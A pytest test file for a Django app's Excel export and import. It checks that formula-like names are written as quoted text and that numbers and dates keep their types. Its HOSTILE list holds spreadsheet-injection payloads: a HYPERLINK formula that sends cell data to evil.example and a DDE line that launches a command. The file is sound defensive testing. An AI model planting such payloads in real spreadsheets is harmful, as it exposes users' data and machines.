"""Excel exports write hostile text as text, and imports keep it as written."""

import json
from datetime import date
from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from qms.certification import services as certification
from qms.spreadsheets import workbook_bytes
from qms.units.models import AdministrativeUnit, Commune

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def cells(data: bytes):
    workbook = load_workbook(BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_text_that_reads_as_a_formula_is_written_as_text_and_numbers_stay_numbers():
    workbook = Workbook()
    workbook.active.append([*HOSTILE, "Xã An Bình", 42, -3.5, date(2026, 1, 5)])
    written = {cell.column: cell for cell in cells(workbook_bytes(workbook))}
    for column, text in enumerate(HOSTILE, start=1):
        assert (written[column].data_type, written[column].value) == ("s", text)
        assert written[column].quotePrefix  # stays text when someone edits the cell
    plain, number, negative, day = (written[len(HOSTILE) + i] for i in range(1, 5))
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "Xã An Bình", False)
    assert (number.data_type, number.value) == ("n", 42)
    assert (negative.data_type, negative.value) == ("n", -3.5)
    assert day.is_date


def release(world, names: dict[str, str]) -> list[dict]:
    """The world's units as a pre-2025 release file, with ``names`` (code -> full name) changed."""

    def item(unit, **children):
        full_name = names.get(unit.code, unit.full_name)
        return {"Code": unit.code, "Name": full_name, "FullName": full_name, **children}

    communes = [item(c.unit) for c in (world.commune_a, world.commune_b)]
    return [item(world.province_unit, District=[item(world.district_unit, Ward=communes)])]


@pytest.mark.django_db
def test_the_district_excel_export_shows_imported_and_edited_names_as_text(client, world, tmp_path):
    district_name, unit_name, commune_name = HOSTILE[3], HOSTILE[0], HOSTILE[6]
    path = tmp_path / "units.json"
    names = {world.district_unit.code: district_name, world.commune_b.unit.code: unit_name}
    path.write_text(json.dumps(release(world, names), ensure_ascii=False), encoding="utf-8")
    call_command("import_units", str(path), stdout=StringIO())
    assert AdministrativeUnit.objects.get(pk=world.commune_b.unit.pk).full_name == unit_name  # stored as written
    Commune.objects.filter(pk=world.commune_a.pk).update(name=commune_name)
    certification.set_target(
        unit=world.district_unit, percent=100, target_date=date(2024, 12, 31), acting_user=world.province
    )
    certification.rebuild_progress(unit=world.district_unit)

    client.force_login(world.district)
    response = client.get(reverse("certification:export_xlsx") + f"?unit={world.district_unit.code}&era=pre2025")
    assert response.status_code == 200
    written = cells(response.content)
    assert written and not [cell.coordinate for cell in written if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in written if isinstance(cell.value, str)}
    # The district's name comes from the imported unit list, the commune's from the edit form.
    for text in (district_name, commune_name):
        assert text in by_value, text
        assert (by_value[text].data_type, by_value[text].quotePrefix) == ("s", True)
    assert any(cell.data_type == "n" and cell.value == 2 for cell in written)  # the commune count stays a number
